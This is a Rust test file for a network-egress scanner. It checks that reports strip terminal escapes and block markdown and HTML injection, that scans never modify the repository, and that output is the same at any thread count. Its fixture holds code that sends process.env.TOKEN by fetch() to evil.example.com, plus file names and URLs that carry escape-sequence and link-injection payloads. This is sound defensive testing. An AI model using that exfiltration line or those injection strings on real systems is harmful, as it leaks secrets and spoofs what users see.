//! The scanner's own guarantees (issue 8): scanned text cannot attack the
//! outputs, scanning never writes into the tree, and reports are
//! byte-identical whatever the thread count.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use crate::common::{egress_scan, fixture, LONG_POLLING_RULE};
use crate::hostile::{hostile_corpus, run_scan};

/// File name and URL full of terminal escapes and markdown/HTML syntax.
const EVIL_NAME: &str = "e\u{1b}[31mvil|`x`<b>](http:attacker.example).ts";
const EVIL_URL: &str = "https://evil.example.com/a\u{1b}]8;;http://attacker.example\u{7}|`c`<img src=x>](http://attacker.example)\u{202E}z";

fn crafted_repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join(EVIL_NAME),
        format!(
            "const token = process.env.TOKEN;\nfetch(\"{EVIL_URL}\" + \"?token=\" + token);\nfetch(`https://evil.example.com/\u{1b}[2J${{token}}`);\n"
        ),
    )
    .unwrap();
    dir
}

fn scan_format(root: &Path, format: &str) -> String {
    String::from_utf8(run_scan(root, &["-f", format])).expect("UTF-8 output")
}

#[test]
fn table_output_strips_control_characters() {
    let repo = crafted_repo();
    let out = scan_format(repo.path(), "table");
    assert!(out.contains("evil.example.com"), "{out}");
    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202E}'] {
        assert!(!out.contains(bad), "{bad:?} in {out}");
    }
}

#[test]
fn markdown_output_cannot_inject_links_html_or_rows() {
    use pulldown_cmark::{Event, Parser, Tag};
    let repo = crafted_repo();
    let out = scan_format(repo.path(), "markdown");
    assert!(out.contains("evil.example.com"), "{out}");
    assert!(!out.contains('\u{1b}'), "{out}");
    for event in Parser::new_ext(&out, pulldown_cmark::Options::ENABLE_TABLES) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML {h:?} in {out}"),
            // Only the report's own links to files in the repository.
            Event::Start(Tag::Link { dest_url, .. }) => assert!(
                !dest_url.contains(':') && !dest_url.starts_with("//"),
                "injected link {dest_url} in {out}"
            ),
            Event::Start(Tag::Image { dest_url, .. }) => panic!("image {dest_url} in {out}"),
            _ => {}
        }
    }
}

#[test]
fn json_and_sarif_keep_scanned_text_escaped_by_serde() {
    let repo = crafted_repo();
    for format in ["json", "sarif"] {
        let out = scan_format(repo.path(), format);
        assert!(!out.contains('\u{1b}'), "{format}: raw escape in output");
        let value: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
        // The text is kept, only escaped: consumers see the real URL.
        assert!(
            value.to_string().contains("\\u001b]8;;http://attacker"),
            "{format}: {out}"
        );
    }
}

/// Contents, mode and mtime of every entry below `root`.
fn snapshot_tree(root: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32, i64, i64)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = fs::symlink_metadata(&path).unwrap();
            let contents = if meta.is_file() {
                fs::read(&path).unwrap()
            } else {
                Vec::new()
            };
            if meta.is_dir() {
                stack.push(path.clone());
            }
            out.insert(path, (contents, meta.mode(), meta.mtime(), meta.mtime_nsec()));
        }
    }
    out
}

fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), &target).unwrap();
        }
    }
}

#[test]
fn scan_and_diff_leave_the_tree_untouched() {
    let work = tempfile::tempdir().unwrap();
    let tree = work.path().join("repo");
    copy_tree(&fixture("chatbot"), &tree);
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@e",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .current_dir(&tree)
            .output()
            .expect("git runs");
        assert!(
            status.status.success(),
            "{}",
            String::from_utf8_lossy(&status.stderr)
        );
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "base"]);
    let reports = tempfile::tempdir().unwrap();
    let before = snapshot_tree(&tree);

    for format in ["table", "json", "sarif", "markdown"] {
        let out = reports.path().join(format!("report.{format}"));
        let status = egress_scan()
            .arg("scan")
            .arg(&tree)
            .args(["-f", format, "-o"])
            .arg(&out)
            .output()
            .unwrap();
        assert!(matches!(status.status.code(), Some(0 | 1)), "{status:?}");
        assert!(out.exists(), "{format}: report written where -o says");
    }
    let status = egress_scan()
        .arg("diff")
        .args(["HEAD", "--repo"])
        .arg(&tree)
        .args(["-f", "json", "-o"])
        .arg(reports.path().join("diff.json"))
        .output()
        .unwrap();
    assert!(matches!(status.status.code(), Some(0 | 1)), "{status:?}");

    assert_eq!(before, snapshot_tree(&tree), "scan or diff changed the tree");
}

/// Every format for every thread count, byte for byte, plus a repeated run
/// (`quick`: JSON for all thread counts, the renderers of the same report
/// at -j 1 and -j 8 only, to keep the slow corpus affordable).
fn assert_deterministic(root: &Path, quick: bool) {
    for format in ["json", "sarif", "markdown"] {
        let first = run_scan(root, &["-f", format, "-j", "1"]);
        let counts: &[&str] = if quick && format != "json" {
            &["8"]
        } else {
            &["2", "8", "8"]
        };
        for threads in counts {
            let again = run_scan(root, &["-f", format, "-j", threads]);
            assert!(
                first == again,
                "{format} differs with -j {threads} on {}",
                root.display()
            );
        }
    }
}

#[test]
fn reports_are_identical_across_thread_counts_on_all_fixtures() {
    // One scan over the fixtures folder covers every fixture project.
    assert_deterministic(&fixture(""), false);
}

#[test]
fn reports_are_identical_across_thread_counts_on_the_hostile_corpus() {
    // Shallower nesting than the hang test: seven scans of it must stay cheap.
    let corpus = hostile_corpus(1_000);
    assert_deterministic(corpus.dir.path(), true);
}

/// Runs a scan of the chatbot fixture with a rules dir holding `files`
/// (name → contents; a name ending in `/` becomes a directory) and returns
/// stderr, after checking for exit code 2 and no panic.
fn rules_error(files: &[(&str, &str)]) -> String {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        if let Some(dir_name) = name.strip_suffix('/') {
            fs::create_dir(dir.path().join(dir_name)).unwrap();
        } else {
            fs::write(dir.path().join(name), text).unwrap();
        }
    }
    let out = egress_scan()
        .args(["scan", "fixtures/chatbot", "--rules"])
        .arg(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    stderr
}

#[test]
fn malformed_rule_yaml_is_a_diagnostic_with_location() {
    let stderr = rules_error(&[("bad.yaml", "id: team/x\nseverity: [unclosed\n")]);
    assert!(stderr.contains("bad.yaml"), "{stderr}");
    assert!(
        stderr.contains(":2:") || stderr.contains("line 2") || stderr.contains("[2:"),
        "{stderr}"
    );
}

#[test]
fn unknown_rule_field_is_a_diagnostic() {
    let text = LONG_POLLING_RULE.replace("help: Use webhooks.", "help: Use webhooks.\nhelpp: typo");
    let stderr = rules_error(&[("typo.yaml", &text)]);
    assert!(
        stderr.contains("typo.yaml") && stderr.contains("helpp"),
        "{stderr}"
    );
}

#[test]
fn invalid_rule_query_is_a_diagnostic() {
    let text = LONG_POLLING_RULE.replace("((string_fragment) @match", "((no_such_node) @match");
    let stderr = rules_error(&[("query.yaml", &text)]);
    assert!(
        stderr.contains("team/no-long-polling") || stderr.contains("query.yaml"),
        "{stderr}"
    );
    assert!(
        stderr.contains("no_such_node") || stderr.contains("query"),
        "{stderr}"
    );
}

#[test]
fn duplicate_rule_ids_are_a_diagnostic() {
    let stderr = rules_error(&[("a.yaml", LONG_POLLING_RULE), ("b.yaml", LONG_POLLING_RULE)]);
    assert!(
        stderr.contains("duplicate") && stderr.contains("team/no-long-polling"),
        "{stderr}"
    );
}

#[test]
fn rule_file_that_is_a_directory_is_a_diagnostic() {
    let stderr = rules_error(&[("bad.yaml/", "")]);
    assert!(stderr.contains("bad.yaml"), "{stderr}");
}

#[test]
fn malformed_config_toml_is_a_diagnostic() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bad.toml");
    fs::write(&config, "exclude = [\"a\"\nallowed_hosts = 3\n").unwrap();
    let out = egress_scan()
        .args(["scan", "fixtures/chatbot", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        !stderr.contains("panicked") && stderr.contains("bad.toml"),
        "{stderr}"
    );
}

#[test]
fn diff_table_strips_control_characters() {
    let repo = crafted_repo();
    let empty = tempfile::tempdir().unwrap();
    let reports = tempfile::tempdir().unwrap();
    let base = reports.path().join("base.json");
    let head = reports.path().join("head.json");
    fs::write(&base, run_scan(empty.path(), &["-f", "json"])).unwrap();
    fs::write(&head, run_scan(repo.path(), &["-f", "json"])).unwrap();
    let out = egress_scan().arg("diff").arg(&base).arg(&head).output().unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("evil.example.com"), "{stdout}");
    for bad in ['\u{1b}', '\u{7}', '\u{202E}'] {
        assert!(!stdout.contains(bad), "{bad:?} in {stdout}");
    }
}
